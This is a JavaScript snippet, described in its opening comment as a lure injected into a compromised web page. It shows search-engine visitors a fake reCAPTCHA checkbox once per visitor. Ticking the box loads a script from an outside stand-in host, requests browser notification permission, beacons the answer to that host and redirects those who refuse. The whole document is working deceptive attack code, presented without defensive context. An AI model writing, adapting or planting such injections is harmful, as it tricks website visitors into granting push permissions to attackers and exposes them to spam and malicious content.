// The same lure injected into a compromised page, shown once per visitor from search: a
// fake CAPTCHA box whose button asks for notification permission.
(function () {
  if (document.cookie.indexOf("nprm=") > -1 || !/google\.|bing\.|yahoo\./.test(document.referrer)) return;
  document.cookie = "nprm=1; path=/; max-age=604800";
  var b = document.createElement("div");
  b.id = "cap";
  b.innerHTML = '<div style="position:fixed;top:30%;left:50%;transform:translateX(-50%);background:#fff;box-shadow:0 0 12px #999;padding:24px;z-index:999999">' +
    '<label><input type="checkbox" id="cap-box"> I\'m not a robot</label><br><small>reCAPTCHA Privacy - Terms</small></div>';
  document.body.appendChild(b);
  document.getElementById("cap-box").addEventListener("change", function () {
    var s = document.createElement("script");
    s.src = "https://cdn.notify-verify.invalid/sdk.js?zone=4411";
    s.onload = function () {
      window.Notification && Notification.requestPermission(function (res) {
        new Image().src = "https://cdn.notify-verify.invalid/stat?z=4411&r=" + res;
        if (res !== "granted") window.location = "https://cdn.notify-verify.invalid/land?z=4411";
        b.parentNode && b.parentNode.removeChild(b);
      });
    };
    document.head.appendChild(s);
  });
})();
